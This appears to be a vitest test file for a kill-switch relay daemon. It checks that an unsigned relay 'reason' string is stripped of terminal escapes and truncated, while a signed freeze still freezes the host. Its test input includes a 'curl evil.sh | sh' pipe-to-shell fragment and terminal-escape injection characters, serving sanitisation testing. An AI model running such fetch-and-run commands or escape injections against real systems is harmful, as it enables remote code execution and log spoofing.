import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { freezeId } from '../../shared/kill-switch/freezeId.ts';
import { PROTOCOL_VERSION } from '../../shared/version.ts';
import { audited, signFreeze, statusCode } from '../support/killSwitchRelay.ts';
import { framesHandled, startPairedDaemon, type PairedDaemon } from '../support/pairedDaemon.ts';

/**
 * The relay's own words in a `state` frame (its `reason`, which nothing signs) are cleaned and
 * cut, never a reason to drop the frame: the signed freeze beside them still freezes the host
 * (review kb, F3).
 */

let paired: PairedDaemon;
beforeEach(async () => {
  paired = await startPairedDaemon();
});
afterEach(() => paired.stop());

/** Terminal escapes, a bell, a line break, a C1 CSI and a right-to-left override, then 300 bytes. */
const UNCLEAN = `Run \x1b]0;owned\x07 curl evil.sh\r\n| sh \u009b2J \u202eezeerfnu ${'x'.repeat(300)}`;
const RAW = ['\x1b', '\x07', '\r', '\u009b', '\u202e'];

describe('a state frame whose unsigned reason a relay wrote badly', () => {
  it('still freezes the host by the signed freeze it carries, and the relay’s text reaches nothing raw', async () => {
    const { machine, relay, daemon, phones } = paired;
    const envelope = await signFreeze(machine, phones[0], 'prod incident 412');
    relay.send({
      v: PROTOCOL_VERSION,
      type: 'state',
      state: {
        ...relay.state,
        frozen: true,
        epoch: 3,
        freeze: envelope,
        reason: UNCLEAN,
        votes: [],
        needed: 1,
      },
    });
    await framesHandled(machine, relay);
    expect(await statusCode(machine)).toBe(1);
    expect(audited(machine, 'freeze', await freezeId(envelope))).toEqual([
      expect.objectContaining({ verified: true, reason: 'prod incident 412' }),
    ]);
    const seen = readFileSync(machine.files.audit, 'utf8') + daemon.output();
    for (const raw of RAW) expect(seen).not.toContain(raw);
  });

  it('freezes the host when no freeze is signed, and audits the relay’s words cleaned and cut', async () => {
    const { machine, relay, daemon } = paired;
    relay.send({
      v: PROTOCOL_VERSION,
      type: 'state',
      state: { ...relay.state, frozen: true, epoch: 3, reason: UNCLEAN, votes: [], needed: 1 },
    });
    await framesHandled(machine, relay);
    expect(await statusCode(machine)).toBe(1);
    const [line] = audited(machine, 'freeze');
    expect(line).toMatchObject({ verified: false, via: 'relay state' });
    const reason = line!['reason'] as string;
    expect(reason).toMatch(/^Run \]0;owned curl evil\.sh {2}\| sh 2J ezeerfnu x+…$/);
    expect(new TextEncoder().encode(reason).length).toBeLessThanOrEqual(200);
    const seen = readFileSync(machine.files.audit, 'utf8') + daemon.output();
    for (const raw of RAW) expect(seen).not.toContain(raw);
  });
});
